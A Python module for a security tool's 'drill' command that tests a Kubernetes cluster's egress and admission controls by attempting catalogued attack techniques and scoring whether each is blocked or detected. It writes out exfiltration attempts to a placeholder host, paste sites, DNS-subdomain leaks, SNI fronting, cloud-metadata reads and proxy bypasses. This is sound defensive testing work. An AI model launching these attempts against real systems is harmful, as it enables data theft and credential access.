"""``corral drill --context CTX``: the technique catalogue against a real cluster, via kubectl.

Where it sits: beside ``corral.verify.cluster`` (whose ``Session`` runs every kubectl call, with
cleanup and bounded waits) and scored by ``corral.verify.drill``. Evidence in a cluster is what a
user can see from outside: the probe's results inside a test pod carrying the agent's labels (the
gateway's 403 and ``X-Corral-Reason``, failed direct connections), the admission refusal texts of
``--dry-run=server`` creates, and the incidents at ``corral serve`` (``--control URL``) for
processes exec'd in a test pod.

Two techniques are not run against a cluster, and say so (``not_available``, never a pass):
DNS rebinding needs a rebinding name server the drill does not control there, and exhausting the
byte quota would push real data to a real allowed destination. ``drill --local`` runs both.
"""

from __future__ import annotations

import secrets
import time
from collections.abc import Callable, Iterable
from typing import Any

from corral.compile import falco
from corral.model.policy import Agent, Policy
from corral.verify import cluster, targets
from corral.verify import kubectl as kc
from corral.verify.catalogue import TECHNIQUES
from corral.verify.cluster import ClusterError, Session
from corral.verify.drill import ControlResult, Score
from corral.verify.exercises import IP_SPELLINGS
from corral.verify.probe import Result

METADATA = "169.254.169.254"
KUBE_API = "kubernetes.default.svc"
PASTE = ("pastebin.com", "paste.ee", "gist.githubusercontent.com")
LOCAL_ONLY = {
    "dns-rebinding": "needs a name server that rebinds, which the drill controls only in the lab;"
                     " run corral drill --local",
    "byte-quota": "would push the hourly quota of real data to a real allowed destination; run "
                  "corral drill --local",
    "forge-control-event": "posts forged alerts and release calls to the control plane; the "
                           "lab's corral serve takes them (run corral drill --local), and the "
                           "rendered NetworkPolicy keeps agents from reaching it in a cluster",
}


def plan(policy: Policy, agent: Agent, token: str) -> dict[str, Any]:
    """One probe plan holding every network attempt of the catalogue (ids ``technique/what``)."""
    ok = targets.allowed(agent)
    gw = cluster.gateway_url(policy, agent)
    svc_host = gw.split("//", 1)[1].rsplit(":", 1)[0]
    others = [p for n, p in policy.spec.listener_ports().items() if n != agent.name]
    a: list[dict[str, Any]] = [
        {"id": "exfil-new-domain/upload", "kind": "upload",
         "url": f"http://exfil-{token}.example/collect", "total": 65536, "chunk": 65536},
        *({"id": f"exfil-paste-site/{h}", "kind": "connect", "host": h, "port": 443}
          for h in PASTE),
        {"id": "dns-subdomain-exfil/name", "kind": "connect", "port": 443,
         "host": f"{secrets.token_hex(8)}.{secrets.token_hex(8)}.t.exfil-{token}.example"},
        {"id": "cdn-front-sni-mismatch/baseline", "kind": "connect", "host": ok.host,
         "port": ok.port},
        {"id": "cdn-front-sni-mismatch/front", "kind": "connect", "host": ok.host,
         "port": ok.port, "sni": f"tenant-{token}.cloudfront.net"},
        {"id": "cloud-metadata/direct", "kind": "direct", "host": METADATA, "port": 80},
        {"id": "cloud-metadata/gateway", "kind": "http",
         "url": f"http://{METADATA}/latest/meta-data/"},
        *({"id": f"ip-literal-spellings/{s}", "kind": "connect", "host": s, "port": 443}
          for s in IP_SPELLINGS),
        {"id": "bypass-proxy/direct", "kind": "direct", "host": ok.host, "port": ok.port},
        {"id": "bypass-proxy/admin", "kind": "direct", "host": svc_host,
         "port": policy.spec.gateway.admin_port},
        *({"id": f"bypass-proxy/port-{p}", "kind": "direct", "host": svc_host, "port": p}
          for p in others),
        {"id": "kube-api/direct", "kind": "direct", "host": KUBE_API, "port": 443},
        {"id": "kube-api/gateway", "kind": "connect", "host": KUBE_API, "port": 443},
    ]
    for x in a:
        x.setdefault("timeout", 3)
    return {"proxy": gw, "timeout": 5, "attempts": a}


def _of(results: dict[str, Result], technique: str) -> dict[str, Result]:
    return {k.split("/", 1)[1]: v for k, v in results.items() if k.startswith(technique + "/")}


def _txt(res: Result) -> str:
    keys = ("outcome", "status", "reason", "body", "error")
    return " ".join(f"{k}={res[k]}" for k in keys if res.get(k) not in (None, ""))


def gateway(results: dict[str, Result]) -> ControlResult:
    """``blocked`` when every attempt got the gateway's refusal (400/403/429)."""
    if not results:
        return ControlResult("gateway", "error", "the probe reported nothing")
    bad = {k: v for k, v in results.items()
           if not (v.get("outcome") == "refused" and v.get("status") in (400, 403, 429))}
    text = "; ".join(f"{k}: {_txt(v)}" for k, v in results.items())
    return ControlResult("gateway", "missed" if bad else "blocked", text)


def network(results: dict[str, Result]) -> ControlResult:
    if not results:
        return ControlResult("network", "error", "the probe reported nothing")
    opened = [k for k, v in results.items() if v.get("outcome") in ("connected", None)]
    text = ", ".join(f"{k}: {v.get('outcome')}" for k, v in results.items())
    return ControlResult("network", "missed" if opened else "blocked", text)


def front(results: dict[str, Result]) -> ControlResult:
    base, bad = results.get("baseline", {}), results.get("front", {})
    if base.get("outcome") != "reached":
        return ControlResult("gateway", "error", f"the allowed name itself failed: {_txt(base)}")
    if bad.get("outcome") in ("tunnel_closed", "proxy_error", "refused"):
        return ControlResult("gateway", "blocked", f"same CONNECT, mismatching SNI: {_txt(bad)}"
                             f" (with matching SNI: reached)")
    return ControlResult("gateway", "missed", f"mismatching SNI: {_txt(bad)}")


NETWORK_JUDGES: dict[str, Callable[[dict[str, Result]], list[ControlResult]]] = {
    "exfil-new-domain": lambda r: [gateway(r)],
    "exfil-paste-site": lambda r: [gateway(r)],
    "dns-subdomain-exfil": lambda r: [gateway(r)],
    "cdn-front-sni-mismatch": lambda r: [front(r)],
    "cloud-metadata": lambda r: [network({"direct": r.get("direct", {})}),
                                 gateway({"gateway": r.get("gateway", {})})],
    "ip-literal-spellings": lambda r: [gateway(r)],
    "bypass-proxy": lambda r: [network(r)],
    "kube-api": lambda r: [network({"direct": r.get("direct", {})}),
                           gateway({"gateway": r.get("gateway", {})})],
}


def admission(s: Session, agent: Agent, what: str, pod: dict[str, Any]) -> ControlResult:
    check = cluster.judge_refusal(what, "", s.call(s.k.create_dry_run(), _json(pod)),
                                  pod_security_counts=False)
    result = {"passed": "blocked", "failed": "missed", "error": "error",
              "not_available": "not_available"}[check.status]
    return ControlResult("admission", result, check.evidence)  # type: ignore[arg-type]


def _json(obj: Any) -> str:
    import json  # noqa: PLC0415 - one call site

    return json.dumps(obj)


PROCESSES = {"run-shell": ("shell", "sh"), "package-manager": ("package_tool", "pip")}


def falco_events(s: Session, agent: Agent) -> dict[str, ControlResult]:
    """Exec each process in a test pod; wait for its rule's event at corral serve."""
    if not s.opts.control_url or s.env.find_event is None:
        why = "pass --control URL of corral serve to see Falco events"
        return {t: ControlResult("falco", "not_available", why) for t in PROCESSES}
    manifest = kc.test_pod(s.policy, agent, name=s.pod_name("drill"), run_id=s.opts.run_id,
                           image=s.image, command=kc.sleeper_command(int(s.opts.timeout_s)))
    out: dict[str, ControlResult] = {}
    with s.pod(manifest) as pod:
        s.wait(pod, lambda st: st.phase == "Running")
        since = time.time()
        for _kind, process in PROCESSES.values():
            s.call(s.k.exec(s.ns, pod, kc.unexpected_process_command(process)))
        for technique, (kind, process) in PROCESSES.items():
            rule = falco.rule_name(kind, agent.name)  # type: ignore[arg-type]
            out[technique] = _wait_event(s, pod, since, rule, process)
    return out


def _wait_event(s: Session, pod: str, since: float, rule: str, process: str) -> ControlResult:
    assert s.env.find_event is not None and s.opts.control_url is not None
    deadline = s.env.monotonic() + s.opts.timeout_s
    while s.env.monotonic() <= deadline:
        found = s.env.find_event(s.opts.control_url, s.ns, pod, since, rule)
        if found:
            return ControlResult("falco", "detected", f"{process} in {pod}: {found}")
        s.env.sleep(s.opts.poll_s)
    return ControlResult("falco", "missed", f"no {rule!r} event for {pod} within "
                         f"{s.opts.timeout_s:g}s")


def drill_cluster(policy: Policy, opts: cluster.Options, env: cluster.Env | None = None,
                  only: Iterable[str] | None = None) -> list[Score]:
    """Scores of the techniques that can run against a cluster (``LOCAL_ONLY`` are left out: the
    caller lists them as skipped, with the reason)."""
    s = Session(policy, opts, env or cluster.default_env())
    agent = targets.pick_agent(policy, opts.agent)
    wanted = (set(only) if only is not None else {t.id for t in TECHNIQUES}) - set(LOCAL_ONLY)
    found: dict[str, list[ControlResult]] = {}
    try:
        found.update(_network(s, agent, wanted))
        found.update(_admission(s, agent, wanted))
        if wanted & set(PROCESSES):
            try:
                found.update({k: [v] for k, v in falco_events(s, agent).items()})
            except ClusterError as exc:
                found.update({t: [ControlResult("falco", "error", str(exc))] for t in PROCESSES})
    finally:
        s.call(s.k.delete_run(s.ns, opts.run_id))
    return [Score(t, tuple(found.get(t.id, ()))) for t in TECHNIQUES if t.id in wanted]


def _network(s: Session, agent: Agent, wanted: set[str]) -> dict[str, list[ControlResult]]:
    todo = wanted & set(NETWORK_JUDGES)
    if not todo:
        return {}
    try:
        results = cluster.run_probe_pod(s, agent, plan(s.policy, agent, s.opts.run_id), "drill-net")
    except (ClusterError, kc.ParseError) as exc:
        return {t: [ControlResult("network", "error", str(exc))] for t in todo}
    return {t: NETWORK_JUDGES[t](_of(results, t)) for t in todo}


def _admission(s: Session, agent: Agent, wanted: set[str]) -> dict[str, list[ControlResult]]:
    out: dict[str, list[ControlResult]] = {}
    if "unapproved-image" in wanted:
        pod = kc.test_pod(s.policy, agent, name=s.pod_name("image"), run_id=s.opts.run_id,
                          image=s.opts.unapproved_image, command=kc.sleeper_command(5))
        out["unapproved-image"] = [admission(s, agent, "unapproved-image", pod)]
    if "read-sa-token" in wanted:
        pod = kc.test_pod(s.policy, agent, name=s.pod_name("token"), run_id=s.opts.run_id,
                          image=s.image, command=kc.sleeper_command(5))
        pod["spec"]["automountServiceAccountToken"] = True
        out["read-sa-token"] = [admission(s, agent, "read-sa-token", pod),
                                ControlResult("falco", "not_available", "the test pods carry no "
                                              "token to read (automount is off)")]
    return out
